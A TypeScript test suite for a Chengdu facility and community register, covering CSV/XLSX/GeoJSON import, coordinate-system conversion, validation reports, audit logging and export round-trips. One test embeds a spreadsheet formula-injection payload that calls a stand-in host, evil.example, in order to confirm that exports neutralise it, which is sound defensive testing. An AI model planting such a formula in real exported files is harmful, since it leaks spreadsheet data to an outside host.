import { openCityTemporaryStore } from '../cities/index.js';
import { test } from 'node:test';
import assert from 'node:assert/strict';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { haversineM } from '../geo/index.js';
import { type Actor, type Facility, type Store } from '../store/index.js';
import { fromWgs84 } from './coordinates.js';
import { exportRegister, importReportToXlsx } from './export.js';
import { addDefaultFacilityTypes } from './commands.js';
import { cliViewer } from '../policy/index.js';
import { manualClock } from '../time/index.js';
import { importRegister, type ImportOptions } from './import.js';

const CLERK: Actor = { userId: null, name: 'test clerk' };
const CITY = '5101'; // 成都

/** Real 社区 codes of 锦江区 春熙路街道 (data/divisions/communities.csv) placed at real OSM residential areas. */
const COMMUNITIES_WGS84 = [
  {
    code: '510104022006',
    name: '总府路社区居委会',
    region: '510104022006',
    lon: 104.084115,
    lat: 30.656212,
    population: 8120,
  },
  {
    code: '510104022009',
    name: '督院街社区居委会',
    region: '510104022009',
    lon: 104.082688,
    lat: 30.657669,
    population: 6233,
  },
  {
    code: '510104022010',
    name: '盐道街社区居委会',
    region: '510104022010',
    lon: 104.092838,
    lat: 30.682541,
    population: 7045,
  },
];

/** Real providers from reference/uscc_vectors.json (their registered region is elsewhere; that is allowed). */
const PROVIDERS_CSV = [
  '统一社会信用代码,名称,服务领域,联系人,联系电话',
  '914403001922038216,华为技术有限公司,健康,张三,13800000000',
  '91440300708461136T,深圳市腾讯计算机系统有限公司,养老;托育,,',
].join('\r\n');

async function setup(): Promise<{ store: Store; dispose: () => Promise<void> }> {
  const clock = manualClock('2026-03-16T10:00:00+08:00');
  const ctx = await openCityTemporaryStore({ clock });
  await addDefaultFacilityTypes({ store: ctx.store, clock, cityCode: CITY }, cliViewer('test'), {});
  return ctx;
}

const run = (store: Store, o: Omit<ImportOptions, 'actor' | 'cityCode'>) =>
  importRegister(store, { actor: CLERK, cityCode: CITY, ...o });

function gbkCommunitiesCsv(): Buffer {
  const lines = ['社区编码,社区名称,区划代码,经度,纬度,常住人口'];
  for (const c of COMMUNITIES_WGS84) {
    const [lon, lat] = fromWgs84([c.lon, c.lat], 'GCJ02'); // as AMap would show them
    lines.push([c.code, c.name, c.region, lon.toFixed(7), lat.toFixed(7), c.population].join(','));
  }
  return iconv.encode(lines.join('\r\n') + '\r\n', 'gbk');
}

async function xlsx(rows: (string | number)[][]): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const sheet = wb.addWorksheet('网点');
  for (const r of rows) sheet.addRow(r);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

const FACILITY_HEADER = [
  '设施编码',
  '设施名称',
  '设施类型',
  '经度',
  '纬度',
  '服务容量',
  '普惠',
  '运营主体统一社会信用代码',
];

test('a GBK CSV of real 社区 codes with GCJ-02 coordinates imports, converted back to WGS-84', async () => {
  const { store, dispose } = await setup();
  const { report } = await run(store, {
    entity: 'communities',
    bytes: gbkCommunitiesCsv(),
    fileName: '社区.csv',
    crs: 'GCJ02',
  });
  assert.equal(report.encoding, 'gbk');
  assert.deepEqual(report.problems, []);
  assert.equal(report.created, 3);
  for (const c of COMMUNITIES_WGS84) {
    const stored = await store.communities.get(c.code);
    assert.equal(stored?.name, c.name);
    assert.ok(
      haversineM(stored!.location.lon, stored!.location.lat, c.lon, c.lat) < 1,
      `${c.code} within 1 m`,
    );
  }
  await dispose();
});

/**
 * A published WGS-84 / GCJ-02 / BD-09 triple in 成都市 武侯区 (hujiulong/gcoord, test/fixtures/china-cities.json,
 * commit fedbaa10, 2018-12-29; see coordinates.test.ts for why it is checked to 1 m). The inputs are the
 * published GCJ-02 and BD-09 values, not positions this project computed, so a conversion applied the wrong way
 * round stores the facility ≈1 km from the published WGS-84 position.
 */
const WUHOU = {
  wgs84: [104.0640437, 30.5747262],
  gcj02: [104.0665489, 30.5722732],
  bd09: [104.0730134, 30.5783237],
} as const;

for (const crs of ['GCJ02', 'BD09'] as const) {
  test(`a facility CSV in ${crs} at a published 成都 position is stored within 1 m of the published WGS-84`, async () => {
    const { store, dispose } = await setup();
    const [lon, lat] = crs === 'GCJ02' ? WUHOU.gcj02 : WUHOU.bd09;
    const csv = `code,name,type,lon,lat\nW1,武侯区药店,pharmacy,${lon},${lat}\n`;
    const { report } = await run(store, {
      entity: 'facilities',
      bytes: Buffer.from(csv),
      fileName: 'f.csv',
      crs,
    });
    assert.deepEqual([report.accepted, report.crs, report.created, report.problems], [true, crs, 1, []]);
    const stored = await store.facilities.get('W1');
    assert.ok(stored);
    const d = haversineM(stored.location.lon, stored.location.lat, WUHOU.wgs84[0], WUHOU.wgs84[1]);
    assert.ok(d < 1, `stored ${stored.location.lon}, ${stored.location.lat} is ${d.toFixed(2)} m away`);
    await dispose();
  });
}

test('without a declared system the same GCJ-02 numbers are taken as WGS-84 and stored unchanged', async () => {
  const { store, dispose } = await setup();
  const csv = `code,name,type,lon,lat\nW1,武侯区药店,pharmacy,${WUHOU.gcj02[0]},${WUHOU.gcj02[1]}\n`;
  const { report } = await run(store, { entity: 'facilities', bytes: Buffer.from(csv), fileName: 'f.csv' });
  assert.equal(report.crs, 'WGS84');
  const stored = await store.facilities.get('W1');
  assert.deepEqual([stored?.location.lon, stored?.location.lat], [104.0665489, 30.5722732]);
  await dispose();
});

test('re-importing the same file changes nothing and writes no audit entry', async () => {
  const { store, dispose } = await setup();
  const bytes = gbkCommunitiesCsv();
  await run(store, { entity: 'communities', bytes, fileName: '社区.csv', crs: 'GCJ02' });
  const auditBefore = (await store.audit.list()).total;
  const { report } = await run(store, { entity: 'communities', bytes, fileName: '社区.csv', crs: 'GCJ02' });
  assert.deepEqual([report.accepted, report.created, report.updated, report.unchanged], [true, 0, 0, 3]);
  assert.equal((await store.audit.list()).total, auditBefore);
  await dispose();
});

test('every imported change is audited with before and after', async () => {
  const { store, dispose } = await setup();
  await run(store, { entity: 'communities', bytes: gbkCommunitiesCsv(), fileName: '社区.csv', crs: 'GCJ02' });
  const changed = Buffer.from(
    'code,name,region_code,lon,lat,population\n510104022006,总府路社区居委会,510104022006,104.084115,30.656212,9000\n',
  );
  const { report } = await run(store, { entity: 'communities', bytes: changed, fileName: 'fix.csv' });
  assert.equal(report.updated, 1);
  const entry = (await store.audit.list({ entity: 'communities', entityKey: '510104022006' })).items[0];
  assert.equal(entry.action, 'import');
  assert.equal((entry.before as { population: number }).population, 8120);
  assert.equal((entry.after as { population: number }).population, 9000);
  await dispose();
});

test('a partially wrong XLSX is rejected whole with a report naming each row, column and reason', async () => {
  const { store, dispose } = await setup();
  await run(store, { entity: 'providers', bytes: Buffer.from(PROVIDERS_CSV), fileName: 'providers.csv' });
  const bytes = await xlsx([
    FACILITY_HEADER,
    ['F001', '瑞华药业三友店', '药店', '104.0874466', '30.6843382', '', '否', '914403001922038216'], // row 2: fine
    ['F002', '省建一公司幼儿园', '幼儿园', '104.0860455', '30.6796065', '约300', '是', ''], // row 3: capacity
    ['F003', '喔喔超市', '综合超市', '121.4737', '31.2304', '', '否', ''], // row 4: 上海, outside 成都
    ['F004', '互惠超市NO.636', '综合超市', '104.1043529', '30.6832477', '', '否', '914403001922038210'], // row 5: check char
    ['F001', '香满园', '综合超市', '104.1109467', '30.673777', '', '否', ''], // row 6: duplicate code
    ['F006', '', '健身房', '104.1097086', '30.6774126', '', '否', ''], // row 7: no name, unknown type
  ]);
  const outcome = await run(store, { entity: 'facilities', bytes, fileName: '网点.xlsx' });
  const { report } = outcome;
  assert.equal(report.accepted, false);
  assert.equal(await store.facilities.count(), 0, 'nothing written, not even the good row');
  assert.deepEqual(
    report.problems.map((p) => [p.row, p.column, p.reason]),
    [
      [3, '服务容量', 'not_an_integer'],
      [4, '经度', 'outside_city'],
      [5, '运营主体统一社会信用代码', 'uscc_invalid'],
      [6, '设施编码', 'duplicate'],
      [7, '设施名称', 'required'],
      [7, '设施类型', 'unknown_type'],
    ],
  );
  assert.match(report.problems[2].message, /expected '6'/);
  assert.match(report.problems[3].message, /row 2/);
  assert.ok(outcome.importId > 0);
  await dispose();
});

test('the row report downloads as XLSX with one line per problem', async () => {
  const { store, dispose } = await setup();
  const bytes = await xlsx([
    FACILITY_HEADER,
    ['F1', '喔喔超市', '综合超市', '104.0647573', '30.6529107', '-5', '也许', ''],
  ]);
  const { report } = await run(store, { entity: 'facilities', bytes, fileName: 'bad.xlsx' });
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await importReportToXlsx(report)) as unknown as ArrayBuffer);
  const sheet = wb.worksheets[0];
  assert.equal(sheet.actualRowCount, 1 + report.problems.length);
  assert.equal(report.problems.length, 2);
  assert.deepEqual(
    [sheet.getRow(2).getCell(1).value, sheet.getRow(2).getCell(2).value, sheet.getRow(2).getCell(4).value],
    [2, '服务容量', '应为非负整数'],
  );
  await dispose();
});

test('a file without a required column is rejected with the header row in the report', async () => {
  const { store, dispose } = await setup();
  const { report } = await run(store, {
    entity: 'facilities',
    bytes: Buffer.from('编码,名称,经度,纬度\nF1,A,104.06,30.65\n'),
    fileName: 'f.csv',
  });
  assert.deepEqual(
    report.problems.map((p) => [p.row, p.column, p.reason]),
    [[1, '设施类型', 'missing_column']],
  );
  await dispose();
});

test('unknown division codes and codes of another city are rejected', async () => {
  const { store, dispose } = await setup();
  const csv =
    'code,name,region_code,lon,lat\nA,甲,510104999999,104.06,30.65\nB,乙,120111001001,104.06,30.65\n';
  const { report } = await run(store, { entity: 'communities', bytes: Buffer.from(csv), fileName: 'c.csv' });
  assert.deepEqual(
    report.problems.map((p) => p.reason),
    ['unknown_region', 'region_outside_city'],
  );
  await dispose();
});

test('a USCC that Excel stored as a number is reported as damaged, not silently rounded', async () => {
  const { store, dispose } = await setup();
  const bytes = await xlsx([
    ['统一社会信用代码', '名称'],
    [Number('914403001922038216'), '华为技术有限公司'],
  ]);
  const { report } = await run(store, { entity: 'providers', bytes, fileName: 'p.xlsx' });
  assert.equal(report.accepted, false);
  assert.ok(report.problems.some((p) => p.reason === 'damaged_cell' && p.message.includes('15 digits')));
  await dispose();
});

test('GeoJSON communities keep their polygon and get its centroid as location', async () => {
  const { store, dispose } = await setup();
  // 东风电力社区, an OSM residential area (way 443917135) in 锦江区.
  const ring = [
    [104.082688, 30.657669],
    [104.084337, 30.656897],
    [104.084778, 30.657593],
    [104.083129, 30.658365],
    [104.082688, 30.657669],
  ];
  const doc = {
    type: 'FeatureCollection',
    features: [
      {
        type: 'Feature',
        properties: { 编码: 'DFDL', 名称: '东风电力社区', 区划代码: '510104022009' },
        geometry: { type: 'Polygon', coordinates: [ring] },
      },
    ],
  };
  const { report } = await run(store, {
    entity: 'communities',
    bytes: Buffer.from(JSON.stringify(doc)),
    fileName: 'c.geojson',
  });
  assert.deepEqual(report.problems, []);
  const c = await store.communities.get('DFDL');
  assert.equal(c?.boundary?.type, 'Polygon');
  assert.ok(haversineM(c!.location.lon, c!.location.lat, 104.0837, 30.6576) < 50);
  await dispose();
});

test('an XLSX export re-imports unchanged, and leaves personal data out unless asked', async () => {
  const { store, dispose } = await setup();
  await run(store, { entity: 'providers', bytes: Buffer.from(PROVIDERS_CSV), fileName: 'providers.csv' });
  const providers = (await store.providers.list()).items;
  const open = await exportRegister('providers', providers, 'xlsx');
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(open as unknown as ArrayBuffer);
  const header = (wb.worksheets[0].getRow(1).values as string[]).filter(Boolean);
  assert.deepEqual(header, ['统一社会信用代码', '名称', '注册区划代码', '服务领域']);
  const { report } = await run(store, { entity: 'providers', bytes: open, fileName: 'export.xlsx' });
  assert.deepEqual([report.accepted, report.unchanged], [true, 2]);
  const full = await exportRegister('providers', providers, 'csv', { includePersonal: true, headers: 'en' });
  assert.match(full.toString('utf8'), /contact_phone/);
  assert.match(full.toString('utf8'), /13800000000/);
  await dispose();
});

test('a GeoJSON facility export carries WGS-84 points and typed values, and re-imports unchanged', async () => {
  const { store, dispose } = await setup();
  const csv = 'code,name,type,lon,lat,capacity\nF1,瑞华药业三友店,pharmacy,104.0874466,30.6843382,12\n';
  await run(store, { entity: 'facilities', bytes: Buffer.from(csv), fileName: 'f.csv' });
  const bytes = await exportRegister(
    'facilities',
    (await store.facilities.list()).items as Facility[],
    'geojson',
  );
  const doc = JSON.parse(bytes.toString());
  assert.deepEqual(doc.features[0].geometry, { type: 'Point', coordinates: [104.0874466, 30.6843382] });
  const p = doc.features[0].properties;
  assert.deepEqual([p['设施类型'], p['服务容量'], p['普惠'], p['地址']], ['pharmacy', 12, false, null]);
  const { report } = await run(store, { entity: 'facilities', bytes, fileName: 'f.geojson' });
  assert.deepEqual([report.accepted, report.unchanged], [true, 1]);
  await dispose();
});

test('a row the actor may not write rejects the whole import', async () => {
  const { store, dispose } = await setup();
  const csv =
    'code,name,type,lon,lat\nF1,瑞华药业三友店,pharmacy,104.0874466,30.6843382\nF2,省建一公司幼儿园,kindergarten,104.0860455,30.6796065\n';
  const { report } = await importRegister(store, {
    entity: 'facilities',
    bytes: Buffer.from(csv),
    fileName: 'f.csv',
    cityCode: CITY,
    actor: CLERK,
    authorize: (_e, after) =>
      (after as Facility).typeCode === 'kindergarten' ? 'education is not your department' : null,
  });
  assert.equal(report.accepted, false);
  assert.deepEqual(
    report.problems.map((p) => [p.row, p.reason]),
    [[3, 'forbidden']],
  );
  assert.equal(await store.facilities.count(), 0);
  await dispose();
});

test('a title row above the header, as government spreadsheets have, is skipped and rows keep their sheet numbers', async () => {
  const { store, dispose } = await setup();
  const bytes = await xlsx([
    ['锦江区养老服务设施名单（2026年11月）'],
    ['设施编码', '设施名称', '设施类型', '经度', '纬度', '服务容量'],
    ['E1', '东风电力社区老年服务站', '老年服务站', '104.0837', '30.6576', '40'],
    ['E2', '总府路社区老年助餐点', '老年助餐点', '104.0841', '30.6562', '二十'],
  ]);
  const { report } = await run(store, { entity: 'facilities', bytes, fileName: '名单.xlsx' });
  assert.deepEqual(
    report.problems.map((p) => [p.row, p.column, p.reason]),
    [[4, '服务容量', 'not_an_integer']],
  );
  assert.equal(report.rows, 2);
  await dispose();
});

test('a Chinese export writes type, status and domains in Chinese and still re-imports unchanged', async () => {
  const { store, dispose } = await setup();
  const csv =
    'code,name,type,lon,lat,status,affordable\nF1,省建一公司幼儿园,kindergarten,104.0860455,30.6796065,suspended,yes\n';
  await run(store, { entity: 'facilities', bytes: Buffer.from(csv), fileName: 'f.csv' });
  const exported = await exportRegister('facilities', (await store.facilities.list()).items, 'csv', {
    facilityTypes: await store.facilityTypes.list(),
  });
  const text = exported.toString('utf8');
  assert.match(text, /F1,省建一公司幼儿园,幼儿园,104.0860455,30.6796065,,,,是,暂停,/);
  const { report } = await run(store, { entity: 'facilities', bytes: exported, fileName: 'export.csv' });
  assert.deepEqual([report.accepted, report.unchanged], [true, 1]);
  await dispose();
});

test('a name a spreadsheet would run as a formula is exported neutralised (CSV and XLSX) and re-imports unchanged', async () => {
  const { store, dispose } = await setup();
  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")';
  const csv = `code,name,type,lon,lat\nF1,"${evil.replaceAll('"', '""')}",pharmacy,104.0874466,30.6843382\n`;
  const imported = await run(store, { entity: 'facilities', bytes: Buffer.from(csv), fileName: 'f.csv' });
  assert.equal(imported.report.accepted, true);
  assert.equal((await store.facilities.get('F1'))?.name, evil);
  const items = (await store.facilities.list()).items;
  const asCsv = (await exportRegister('facilities', items, 'csv', { headers: 'en' })).toString('utf8');
  assert.ok(asCsv.includes(`F1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击查看"")"`), asCsv);
  const asXlsx = await exportRegister('facilities', items, 'xlsx', { headers: 'en' });
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(asXlsx as unknown as ArrayBuffer);
  assert.equal(wb.worksheets[0].getRow(2).getCell(2).value, `'${evil}`);
  for (const [bytes, fileName] of [
    [Buffer.from(asCsv), 'export.csv'],
    [asXlsx, 'export.xlsx'],
  ] as const) {
    const again = await run(store, { entity: 'facilities', bytes, fileName });
    assert.deepEqual([again.report.accepted, again.report.unchanged], [true, 1], fileName);
  }
  await dispose();
});

test('a large bad file gives a bounded report: every problem counted by reason, the first 1000 listed, long cells clipped', async () => {
  const { store, dispose } = await setup();
  const junk = 'x'.repeat(5000);
  const lines = ['code,name,type,lon,lat'];
  // 3000 rows: each has an unknown type (a 5000-character cell) and a longitude that is not a number.
  for (let i = 1; i <= 3000; i++) lines.push(`F${i},网点${i},${junk},east,30.68`);
  const bytes = Buffer.from(lines.join('\n'));
  const { report } = await run(store, { entity: 'facilities', bytes, fileName: 'junk.csv' });
  assert.equal(report.accepted, false);
  assert.equal(report.problemCount, 6000);
  assert.deepEqual(report.problemsByReason, { unknown_type: 3000, not_a_number: 3000 });
  assert.equal(report.problems.length, 1000);
  assert.deepEqual(
    report.problems.slice(0, 2).map((p) => [p.row, p.column, p.reason]),
    [
      [2, 'type', 'unknown_type'],
      [2, 'lon', 'not_a_number'],
    ],
  );
  const typeProblem = report.problems[0];
  assert.equal(typeProblem.value, `${'x'.repeat(100)}…（共 5000 字符 / 5000 chars）`);
  assert.ok(typeProblem.message.length <= 400 + 30, `${typeProblem.message.length}`);
  assert.ok(JSON.stringify(report).length < 400_000, `report of ${JSON.stringify(report).length} characters`);
  assert.equal(await store.facilities.count(), 0);
  await dispose();
});

test('two outlets of the same name and type within 50 m are reported as one entered twice; 51 m apart or another type is fine', async () => {
  const { store, dispose } = await setup();
  // Along a meridian a degree is 111 195.08 m: 0.0004496° = 49.993 m, 0.0004587° = 51.005 m (hand-computed).
  const d50 = '0.0004496';
  const d51 = '0.0004587';
  const csv = [
    '设施编码,设施名称,设施类型,经度,纬度',
    'F1,瑞华药业三友店,pharmacy,104.0800000,30.6800000',
    `F2,瑞华药业 三友店,pharmacy,104.0800000,${(30.68 + Number(d50)).toFixed(7)}`,
    `F3,瑞华药业三友店,supermarket,104.0800000,30.6800000`,
    `F4,瑞华药业三友店,pharmacy,104.0800000,${(30.68 - Number(d51)).toFixed(7)}`,
  ].join('\n');
  const { report } = await run(store, { entity: 'facilities', bytes: Buffer.from(csv), fileName: 'f.csv' });
  assert.deepEqual(
    report.problems.map((p) => [p.row, p.column, p.reason]),
    [[3, '设施名称', 'near_duplicate']],
  );
  assert.match(report.problems[0].message, /is 50 m from the outlet of the same name and type in row 2/);
  await dispose();
});
